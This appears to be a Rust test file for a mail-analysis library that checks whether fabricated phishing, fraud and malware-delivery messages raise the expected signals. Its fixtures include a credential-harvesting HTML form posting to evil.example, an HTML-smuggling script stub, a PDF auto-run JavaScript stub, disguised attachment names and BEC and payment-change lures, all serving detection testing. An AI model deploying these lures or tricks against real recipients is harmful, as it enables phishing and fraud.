//! One or more hand-built messages per signal family, including BEC, vendor-fraud and QR cases,
//! and checks that the evidence is in plain words.

mod common;

use std::io::Write;

use common::*;
use ward_mail::{Analyzer, AnalyzerConfig, KnownSenders, VerdictKind, Vip};

#[test]
fn identity_brand_in_name_on_a_stranger_address() {
    let m = message(
        "From: Microsoft account team <no-reply@usual-assist.com>\nTo: alice@contoso.com\nSubject: Unusual sign-in activity",
        "text/plain",
        "We detected unusual sign-in activity. Please verify your account: http://usual-assist.com/x",
        &[],
    );
    let v = analyzer().analyze(m.as_bytes()).unwrap();
    assert!(has(&v, "identity.brand_name_mismatch"), "{:?}", ids(&v));
    assert_eq!(
        detail(&v, "identity.brand_name_mismatch"),
        "the name says Microsoft (\"microsoft\") but the address is at usual-assist.com"
    );
    assert!(v.is_flagged());
    assert!(
        v.categories.contains(&"credential_phishing".to_string()),
        "{:?}",
        v.categories
    );
}

#[test]
fn identity_brands_beyond_the_big_tech_ones() {
    for (from, brand) in [
        (
            "Cash App Rewards <notifications@retailpromotions.example>",
            "Cash App",
        ),
        (
            "Geek Squad Billing <geeksquad.renewal@gmail.com>",
            "Best Buy",
        ),
        (
            "Assurance Maladie <remboursement@secu-info.example>",
            "Ameli",
        ),
        (
            "Société Générale <alerte@sg-securite.example>",
            "Societe Generale",
        ),
        ("Mercado Livre <ofertas@promo-ml.example>", "Mercado Pago"),
    ] {
        let m = message(
            &format!("From: {from}\nTo: b@contoso.com\nSubject: Notice"),
            "text/plain",
            "Please see the details.",
            &[],
        );
        let v = analyzer().analyze(m.as_bytes()).unwrap();
        assert!(
            has(&v, "identity.brand_name_mismatch"),
            "{from}: {:?}",
            ids(&v)
        );
        assert!(
            detail(&v, "identity.brand_name_mismatch").contains(brand),
            "{from}"
        );
    }
    let m = message(
        "From: Venmo <venmo@venmo.com>\nTo: b@contoso.com\nSubject: You received $20",
        "text/plain",
        "Ann paid you $20 for lunch.",
        &[],
    );
    let v = analyzer().analyze(m.as_bytes()).unwrap();
    assert!(!has(&v, "identity.brand_name_mismatch"), "{:?}", ids(&v));
}

#[test]
fn identity_of_a_forwarded_original() {
    for body in [
        "________________________________\nDe: Cash App Rewards <Notifications.9FOD@RetailPromotions.example>\n\
         Enviado: quarta-feira, 31 de maio de 2023 14:17\nPara: me@example.net\n\
         Assunto: Rewards for You\n\nGet a $750 Gift Card Today!",
        "---------- Forwarded message ---------\nFrom: PayPal Service <service@pp-support.example>\n\
         Date: Mon, 3 Jun 2024 at 10:12\nSubject: Your account\nTo: <me@example.net>\n\nHello",
        "Von: \"DHL Express\" [mailto:paket@zustellung-info.example]\nGesendet: Montag, 3. Juni 2024\n\
         An: ich@example.net\nBetreff: Paket",
    ] {
        let m = message(
            "From: Bob <bob@contoso.com>\nTo: soc@contoso.com\nSubject: Fw: is this real?",
            "text/plain",
            body,
            &[],
        );
        let v = analyzer().analyze(m.as_bytes()).unwrap();
        assert!(
            has(&v, "identity.brand_name_mismatch"),
            "{body}: {:?}",
            ids(&v)
        );
        assert!(detail(&v, "identity.brand_name_mismatch").contains("forwarded"));
    }
    // The brand's own address, and a colleague quoted in a reply chain, are not mismatches.
    for body in [
        "From: Microsoft account team <no-reply@microsoft.com>\nSent: Wednesday, 8 February 2023\n\
         Subject: Unusual sign-in activity".to_string(),
        "From: Alice Martin <alice@contoso.com>\nSent: Tuesday, 4 June 2024 09:00\nSubject: RE: budget"
            .to_string(),
        // Malformed blocks: multi-byte text at every cut, unclosed brackets.
        format!("From: PayPal {}", "é".repeat(150)),
        "From: PayPal <service@pp-support.example".to_string(),
        "De: <>\nEnviado:".to_string(),
    ] {
        let m = message(
            "From: Bob <bob@contoso.com>\nTo: soc@contoso.com\nSubject: Fw: note",
            "text/plain",
            &body,
            &[],
        );
        let v = analyzer().analyze(m.as_bytes()).unwrap();
        assert!(
            !has(&v, "identity.brand_name_mismatch"),
            "{body}: {:?}",
            ids(&v)
        );
    }
}

#[test]
fn identity_genuine_brand_mail_is_clean() {
    let m = message(
        "From: Microsoft <account-security-noreply@accountprotection.microsoft.com>\nTo: alice@contoso.com\nSubject: Your monthly summary",
        "text/plain",
        "Here is the summary of your account for October. Nothing needs your attention.",
        &[],
    );
    let v = analyzer().analyze(m.as_bytes()).unwrap();
    assert_eq!(v.verdict, VerdictKind::Clean, "{}", v.explain());
}

#[test]
fn identity_lookalike_domains_and_reply_to_tricks() {
    let cfg = AnalyzerConfig {
        accepted_domains: vec!["contoso.com".into()],
        partner_domains: vec!["fabrikam.com".into()],
        ..AnalyzerConfig::default()
    };
    let a = Analyzer::new(cfg).unwrap();
    let m = message(
        "From: IT <it@c0ntoso.com>\nTo: bob@contoso.com\nSubject: hello",
        "text/plain",
        "See you tomorrow.",
        &[],
    );
    let v = a.analyze(m.as_bytes()).unwrap();
    assert!(has(&v, "identity.lookalike_tenant_domain"), "{:?}", ids(&v));
    // Cyrillic "а" in the domain: same confusable skeleton.
    let m = message(
        "From: AR <ar@f\u{0430}brikam.com>\nTo: bob@contoso.com\nSubject: hello",
        "text/plain",
        "Statement attached soon.",
        &[],
    );
    let v = a.analyze(m.as_bytes()).unwrap();
    assert!(
        has(&v, "identity.lookalike_partner_domain") || has(&v, "identity.punycode_domain"),
        "{:?}",
        ids(&v)
    );
    let m = message(
        "From: Billing <billing@fabrikam.com>\nReply-To: fabrikam.billing@gmail.com\nTo: bob@contoso.com\nSubject: hi",
        "text/plain",
        "Please reply.",
        &[],
    );
    let v = a.analyze(m.as_bytes()).unwrap();
    assert!(has(&v, "identity.reply_to_freemail"), "{:?}", ids(&v));
}

#[test]
fn identity_replies_diverted_from_one_free_mailbox_to_another() {
    let m = message(
        "From: Mrs A <mmeerwv12@outlook.com>\nReply-To: mrs.a.private@gmail.com\nTo: b@contoso.com\nSubject: Hello friend",
        "text/plain",
        "I have an offer for you. Reply to me for details.",
        &[],
    );
    let v = analyzer().analyze(m.as_bytes()).unwrap();
    assert!(has(&v, "identity.reply_to_freemail"), "{:?}", ids(&v));
    assert!(detail(&v, "identity.reply_to_freemail").contains("another provider"));
    // The same person's other address at the same provider is not a diversion.
    let m = message(
        "From: Ann <ann.smith@gmail.com>\nReply-To: ann.smith.home@gmail.com\nTo: b@contoso.com\nSubject: Lunch",
        "text/plain",
        "See you at noon.",
        &[],
    );
    let v = analyzer().analyze(m.as_bytes()).unwrap();
    assert!(!has(&v, "identity.reply_to_freemail"), "{:?}", ids(&v));
}

#[test]
fn identity_mail_from_a_rented_servers_host_name() {
    use ward_mail::analysis::identity::server_host;
    for d in [
        "vps-f44897b3.vps.ovh.ca",
        "ec2-3-91-12-4.compute-1.amazonaws.com",
        "ip-10-0-0-12.example.net",
        "203-0-113-7.static.example.net",
        "srv123.hoster.example",
        "server01.hoster.example",
        "static-1234.isp.example",
        "vps.hoster.example",
        "mail.example.vultrusercontent.com",
    ] {
        assert!(server_host(d).is_some(), "{d}");
    }
    for d in [
        "contoso.com",
        "mail.contoso.com",
        "server.com",
        "srv.contoso.com",
        "vps.com",
        "staticmedia.contoso.com",
        "news.server123.com",
        "hosting.example",
        "e.newsletter.example.com",
    ] {
        assert!(server_host(d).is_none(), "{d}");
    }
    let m = message(
        "From: Notificaciones <ejecucion@vps-f44897b3.vps.ovh.ca>\nTo: b@contoso.com\nSubject: Citación",
        "text/plain",
        "Descargue el documento.",
        &[],
    );
    let v = analyzer().analyze(m.as_bytes()).unwrap();
    assert!(has(&v, "identity.sender_server_host"), "{:?}", ids(&v));
    assert!(detail(&v, "identity.sender_server_host").contains("vps-f44897b3.vps.ovh.ca"));
}

#[test]
fn bec_executive_impersonation_and_first_contact() {
    struct Known;
    impl KnownSenders for Known {
        fn is_known(&self, a: &str) -> bool {
            a == "ceo@contoso.com"
        }
    }
    let cfg = AnalyzerConfig {
        accepted_domains: vec!["contoso.com".into()],
        vips: vec![Vip {
            name: "Jane Smith".into(),
            addresses: vec!["ceo@contoso.com".into()],
        }],
        known_senders: Some(std::sync::Arc::new(Known)),
        ..AnalyzerConfig::default()
    };
    let a = Analyzer::new(cfg).unwrap();
    let m = message(
        "From: Jane Smith <jane.smith.office@gmail.com>\nTo: bob@contoso.com\nSubject: Request",
        "text/plain",
        "Are you available? I need you to buy gift cards for a client today. Keep this confidential.",
        &[],
    );
    let v = a.analyze(m.as_bytes()).unwrap();
    assert!(has(&v, "identity.vip_impersonation"), "{:?}", ids(&v));
    assert!(has(&v, "identity.first_contact"));
    assert!(has(&v, "content.gift_card"));
    assert_eq!(v.verdict, VerdictKind::Malicious, "{}", v.explain());
    assert!(v.categories.contains(&"bec".to_string()));
    // The real CEO writing from her own address is not impersonation.
    let m = message(
        "From: Jane Smith <ceo@contoso.com>\nTo: bob@contoso.com\nSubject: Board",
        "text/plain",
        "Board meeting moved to 3pm.",
        &[],
    );
    let v = a.analyze(m.as_bytes()).unwrap();
    assert!(!has(&v, "identity.vip_impersonation"));
    assert_eq!(v.verdict, VerdictKind::Clean);
}

#[test]
fn vendor_fraud_bank_detail_change() {
    let cfg = AnalyzerConfig {
        partner_domains: vec!["fabrikam.com".into()],
        ..AnalyzerConfig::default()
    };
    let a = Analyzer::new(cfg).unwrap();
    let m = message(
        "From: Fabrikam Accounts <accounts@fabrikarn.com>\nTo: ap@contoso.com\nSubject: Updated banking details",
        "text/plain",
        "Dear customer, our bank details have changed. Please remit payment to our new account, IBAN DE89370400440532013000, from today.",
        &[],
    );
    let v = a.analyze(m.as_bytes()).unwrap();
    assert!(has(&v, "content.payment_change"), "{:?}", ids(&v));
    assert!(has(&v, "content.iban"));
    assert!(has(&v, "identity.lookalike_partner_domain"));
    assert!(
        v.categories.contains(&"vendor_fraud".to_string()),
        "{:?}",
        v.categories
    );
    assert_eq!(v.verdict, VerdictKind::Malicious);
}

#[test]
fn content_in_six_languages() {
    let a = analyzer();
    for body in [
        "Verify your account now or it will be suspended.",
        "Vérifiez votre compte immédiatement, sinon il sera supprimé.",
        "Bitte bestätigen Sie Ihre Daten, Ihr Konto wurde gesperrt.",
        "Verifique su cuenta, su cuenta será suspendida.",
        "Atualize seus dados, sua conta foi bloqueada.",
        "Bevestig uw account, uw account wordt verwijderd.",
    ] {
        let m = message(
            "From: Service <a@example.net>\nTo: b@contoso.com\nSubject: Notice",
            "text/plain",
            body,
            &[],
        );
        let v = a.analyze(m.as_bytes()).unwrap();
        assert!(
            has(&v, "content.credential_request") || has(&v, "content.credential_request_strong"),
            "{body}: {:?}",
            ids(&v)
        );
        assert!(has(&v, "content.account_threat"), "{body}: {:?}", ids(&v));
    }
}

#[test]
fn advance_fee_stories_in_six_languages_are_flagged() {
    let a = analyzer();
    for body in [
        "I am the widow of a diplomat. As next of kin you are the beneficiary of an unclaimed \
         inheritance; reply for our mutual benefit.",
        "Je suis la veuve de feu mon mari. Vous êtes le bénéficiaire d'une somme sur un compte \
         dormant, pour notre bénéfice mutuel.",
        "Ich bin die Witwe eines Diplomaten. Als begünstigter der Erbschaft meines verstorbener \
         Mannes erhalten Sie die Summe zum gegenseitigen Nutzen.",
        "Soy la viuda de mi difunto esposo. Usted es el beneficiario de una herencia de millones \
         de dólares, para beneficio mutuo.",
        "Sou a viúva do meu marido falecido. Você é o beneficiário de uma herança de milhões de \
         dólares; conto com sua cooperação.",
        "Ik ben de weduwe van een diplomaat. U bent de begunstigde van een erfenis van een \
         miljoen dollar, tot wederzijds voordeel.",
    ] {
        let m = message(
            "From: Mrs A <mrs.a@example.net>\nTo: b@contoso.com\nSubject: Hello",
            "text/plain",
            body,
            &[],
        );
        let v = a.analyze(m.as_bytes()).unwrap();
        assert!(has(&v, "content.advance_fee"), "{body}: {:?}", ids(&v));
        assert!(v.is_flagged(), "{body}: {}", v.explain());
    }
}

#[test]
fn legal_threats_are_a_lure() {
    let m = message(
        "From: Juzgado <notificaciones@tramites-judiciales.top>\nTo: b@contoso.com\nSubject: Notificación judicial",
        "text/plain",
        "Usted tiene una citación judicial del juzgado. Descargue la demanda judicial aquí: \
         https://docs.tramites-judiciales.top/expediente",
        &[],
    );
    let v = analyzer().analyze(m.as_bytes()).unwrap();
    assert!(has(&v, "content.legal_threat"), "{:?}", ids(&v));
    assert!(v.is_flagged(), "{}", v.explain());
}

#[test]
fn callback_phishing() {
    let m = message(
        "From: \"Norton 360\" <billing.team@gmail.com>\nTo: b@contoso.com\nSubject: Invoice #8812",
        "text/plain",
        "Your subscription has been renewed. If you did not authorize this charge, call us at +1 (808) 555-0142.",
        &[],
    );
    let v = analyzer().analyze(m.as_bytes()).unwrap();
    assert!(has(&v, "content.callback_number"), "{:?}", ids(&v));
    assert!(
        v.categories.contains(&"callback".to_string()),
        "{:?}",
        v.categories
    );
}

#[test]
fn html_tricks() {
    let html = r#"<html><head><meta http-equiv="refresh" content="5;url=http://evil.example/"><base href="http://evil.example/"></head>
      <body><p>Update your payment information:</p>
      <a href="http://evil.example/login">https://www.paypal.com/signin</a>
      <div style="display:none">lorem ipsum dolor sit amet consectetur adipiscing elit sed do eiusmod tempor incididunt ut labore et dolore magna aliqua ut enim ad minim veniam quis nostrud exercitation ullamco laboris nisi ut aliquip ex ea commodo consequat duis aute irure dolor in reprehenderit in voluptate velit esse cillum dolore eu fugiat nulla pariatur excepteur sint occaecat cupidatat non proident</div>
      <form action="http://evil.example/p"><input type="password" name="pw"></form>
      <p>pa&#8203;y&#8203;p&#8203;al se&#8203;cu&#8203;re</p></body></html>"#;
    let m = message(
        "From: Service <a@example.net>\nTo: b@contoso.com\nSubject: Notice",
        "text/html",
        html,
        &[],
    );
    let v = analyzer().analyze(m.as_bytes()).unwrap();
    for id in [
        "html.link_text_mismatch",
        "html.password_form",
        "html.meta_refresh",
        "html.base_tag",
        "html.hidden_text",
        "content.invisible_characters",
    ] {
        assert!(has(&v, id), "{id} missing: {:?}", ids(&v));
    }
    assert_eq!(
        detail(&v, "html.link_text_mismatch"),
        "a link shows www.paypal.com but leads to evil.example"
    );
    assert_eq!(v.verdict, VerdictKind::Malicious);
}

#[test]
fn links_ip_shortener_punycode_and_unwrapped_safelinks() {
    let body = "Open http://198.51.100.7/login and https://bit.ly/3abc and http://xn--pypal-4ve.com/ and \
                https://eur01.safelinks.protection.outlook.com/?url=https%3A%2F%2Fsecure-login.firebaseapp.com%2F&data=x";
    let m = message(
        "From: Service <a@example.net>\nTo: b@contoso.com\nSubject: Links",
        "text/plain",
        body,
        &[],
    );
    let v = analyzer().analyze(m.as_bytes()).unwrap();
    for id in [
        "links.ip_literal",
        "links.shortener",
        "links.punycode",
        "links.free_hosting",
    ] {
        assert!(has(&v, id), "{id} missing: {:?}", ids(&v));
    }
    // Safe Links are unwrapped, not reported as a redirector.
    assert!(detail(&v, "links.free_hosting").contains("secure-login.firebaseapp.com"));
    assert!(!has(&v, "links.redirector"));
}

/// Storage buckets and IPFS paths are found anywhere in a link, in any case; their look-alikes
/// elsewhere are not.
#[test]
fn links_to_storage_buckets_and_ipfs_in_any_case() {
    let links_in = |body: &str| {
        let m = message(
            "From: Service <a@example.net>\nTo: b@contoso.com\nSubject: Links",
            "text/plain",
            body,
            &[],
        );
        analyzer().analyze(m.as_bytes()).unwrap()
    };
    for body in [
        "See https://Storage.GoogleAPIs.COM/bucket-91/invoice.html now",
        "See https://files.example.org/IPFS/QmYwAPJzv5CZsnA625s3Xf2nemtYgPpHdWEz79ojWnPbdG now",
        "See https://x.blob.core.windows.net/c/login.html now",
    ] {
        let v = links_in(body);
        assert!(has(&v, "links.free_hosting"), "{body}: {:?}", ids(&v));
    }
    let v = links_in("See https://storage.example.com/googleapis/ipfs-notes now");
    assert!(!has(&v, "links.free_hosting"), "{:?}", ids(&v));
}

fn zip_of(files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut buf = std::io::Cursor::new(Vec::new());
    {
        let mut z = zip::ZipWriter::new(&mut buf);
        for (name, data) in files {
            z.start_file(*name, zip::write::SimpleFileOptions::default())
                .unwrap();
            z.write_all(data).unwrap();
        }
        z.finish().unwrap();
    }
    buf.into_inner()
}

#[test]
fn attachments_with_disguised_names() {
    let a = analyzer();
    for name in [
        "invoice\u{202E}fdp.exe",
        "review_document\u{034F}\u{034F}.rtf",
        "=?utf-8?b?cmVwb3J04oCLLnBkZg==?=",
    ] {
        let m = message(
            "From: A <a@example.net>\nTo: b@contoso.com\nSubject: Documents",
            "text/plain",
            "See attached.",
            &[(name, "application/octet-stream", b"{\\rtf1 hello}".to_vec())],
        );
        let v = a.analyze(m.as_bytes()).unwrap();
        assert!(has(&v, "att.name_disguised"), "{name}: {:?}", ids(&v));
        assert!(detail(&v, "att.name_disguised").contains("U+"), "{name}");
    }
    let m = message(
        "From: A <a@example.net>\nTo: b@contoso.com\nSubject: Documents",
        "text/plain",
        "See attached.",
        &[(
            "Relevé de compte – été.pdf",
            "application/pdf",
            b"%PDF-1.4".to_vec(),
        )],
    );
    let v = a.analyze(m.as_bytes()).unwrap();
    assert!(!has(&v, "att.name_disguised"), "{:?}", ids(&v));
}

#[test]
fn attachments_macros_archives_executables_smuggling() {
    let a = analyzer();
    let docm = zip_of(&[
        ("[Content_Types].xml", b"<Types/>"),
        ("word/document.xml", b"<w/>"),
        ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0"),
    ]);
    let zip_exe = zip_of(&[("invoice.pdf.exe", b"MZ\x90\x00")]);
    let html = format!(
        "<html><script>var p=atob('{}');var b=new Blob([p]);saveAs(URL.createObjectURL(b));</script></html>",
        "QUJD".repeat(600)
    );
    let m = message(
        "From: AP <ap@example.net>\nTo: b@contoso.com\nSubject: Documents",
        "text/plain",
        "Please see the attached documents.",
        &[
            (
                "report.docm",
                "application/vnd.ms-word.document.macroEnabled.12",
                docm,
            ),
            ("invoice.zip", "application/zip", zip_exe),
            ("scan.html", "text/html", html.into_bytes()),
            (
                "setup.lnk",
                "application/octet-stream",
                vec![0x4c, 0, 0, 0, 1, 0x14, 2, 0],
            ),
        ],
    );
    let v = a.analyze(m.as_bytes()).unwrap();
    for id in [
        "att.macro",
        "att.archive_executable",
        "att.html_smuggling",
        "att.shortcut",
        "att.html",
    ] {
        assert!(has(&v, id), "{id} missing: {:?}", ids(&v));
    }
    assert_eq!(v.verdict, VerdictKind::Malicious);
    assert!(v.categories.contains(&"malware".to_string()));
}

#[test]
fn attachments_pdf_with_javascript_and_calendar_lure() {
    let pdf = b"%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF".to_vec();
    let ics = b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:Payroll update\r\nDESCRIPTION:Confirm at https://payroll-update.web.app/login\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n".to_vec();
    let m = message(
        "From: HR <hr@example.net>\nTo: b@contoso.com\nSubject: Docs",
        "text/plain",
        "Attached.",
        &[
            ("a.pdf", "application/pdf", pdf),
            ("invite.ics", "text/calendar", ics),
        ],
    );
    let v = analyzer().analyze(m.as_bytes()).unwrap();
    assert!(has(&v, "att.pdf_javascript"), "{:?}", ids(&v));
    assert!(has(&v, "att.calendar_links"), "{:?}", ids(&v));
    assert!(has(&v, "links.free_hosting"), "{:?}", ids(&v));
}

#[test]
fn qr_code_in_an_image_is_decoded_and_judged_as_a_link() {
    let code = qrcode::QrCode::new(b"http://203.0.113.9/m365/login").unwrap();
    let img = code
        .render::<image::Luma<u8>>()
        .min_dimensions(200, 200)
        .build();
    let mut png = std::io::Cursor::new(Vec::new());
    img.write_to(&mut png, image::ImageFormat::Png).unwrap();
    let m = message(
        "From: Microsoft 365 <admin@mfa-notice.example>\nTo: b@contoso.com\nSubject: MFA required",
        "text/plain",
        "Your password will expire today. Scan the QR code with your phone to keep your account.",
        &[("qr.png", "image/png", png.into_inner())],
    );
    let v = analyzer().analyze(m.as_bytes()).unwrap();
    assert!(has(&v, "qr.code"), "{:?}", ids(&v));
    assert!(has(&v, "qr.link"), "{:?}", ids(&v));
    assert!(
        detail(&v, "links.ip_literal").contains("in a QR code"),
        "{}",
        v.explain()
    );
    assert!(v.categories.contains(&"credential_phishing".to_string()));
}

#[test]
fn builtin_rule_samples_pass() {
    let a = analyzer();
    let results = a.test_rules();
    assert!(results.len() >= 10);
    let failed: Vec<_> = results.iter().filter(|r| !r.passed()).collect();
    assert!(failed.is_empty(), "{failed:?}");
}

#[test]
fn user_rules_load_and_bad_ones_are_refused() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("mine.yaml"),
        "- id: subject-wire\n  description: Subject mentions a wire\n  severity: critical\n  category: bec\n  when: \"subject.lowerAscii().contains('wire')\"\n",
    )
    .unwrap();
    let a = Analyzer::new(AnalyzerConfig {
        rule_paths: vec![dir.path().to_path_buf()],
        ..AnalyzerConfig::default()
    })
    .unwrap();
    let m = message(
        "From: x@example.net\nTo: b@contoso.com\nSubject: WIRE today",
        "text/plain",
        "hi",
        &[],
    );
    let v = a.analyze(m.as_bytes()).unwrap();
    assert!(has(&v, "rule.subject-wire"), "{:?}", ids(&v));
    assert_eq!(v.verdict, VerdictKind::Malicious);
    std::fs::write(
        dir.path().join("bad.yaml"),
        "- id: bad\n  description: d\n  severity: low\n  category: c\n  when: \"((\"\n",
    )
    .unwrap();
    assert!(
        Analyzer::new(AnalyzerConfig {
            rule_paths: vec![dir.path().to_path_buf()],
            ..AnalyzerConfig::default()
        })
        .is_err()
    );
}

#[test]
fn plain_ham_is_clean_and_verdict_serializes() {
    let m = message(
        "From: Bob <bob@example.org>\nTo: alice@example.org\nSubject: Re: patch",
        "text/plain",
        "Thanks, the patch applies cleanly; merged into main.",
        &[],
    );
    let v = analyzer().analyze(m.as_bytes()).unwrap();
    assert_eq!(v.verdict, VerdictKind::Clean);
    let j = serde_json::to_value(&v).unwrap();
    assert_eq!(j["verdict"], "clean");
    assert!(j["signals"].is_array());
}

/// Issue 21, item 4: a NUL or other control character in a shown header is a signal, raw or
/// hidden in an encoded word.
#[test]
fn mime_control_characters_in_shown_headers() {
    for (headers, needle) in [
        (
            "From: a@example.net\nTo: b@contoso.com\nSubject: Invoice\0 paid",
            "the Subject header carries a NUL byte",
        ),
        (
            "From: a@example.net\nTo: b@contoso.com\nSubject: =?utf-8?b?SW52b2ljZQBwYWlk?=",
            "a NUL byte",
        ),
        (
            "From: Pay\x1broll <a@example.net>\nTo: b@contoso.com\nSubject: hi",
            "control character 0x1b",
        ),
    ] {
        let m = message(headers, "text/plain", "See attached.", &[]);
        let v = analyzer().analyze(m.as_bytes()).unwrap();
        assert!(
            has(&v, "mime.header_control_chars"),
            "{headers:?}: {:?}",
            ids(&v)
        );
        let d = detail(&v, "mime.header_control_chars");
        assert!(d.contains(needle), "{d}");
    }
    let m = message(
        "From: a@example.net\nTo: b@contoso.com\nSubject: Invoice\tpaid",
        "text/plain",
        "See attached.",
        &[],
    );
    let v = analyzer().analyze(m.as_bytes()).unwrap();
    assert!(!has(&v, "mime.header_control_chars"), "{:?}", ids(&v));
}
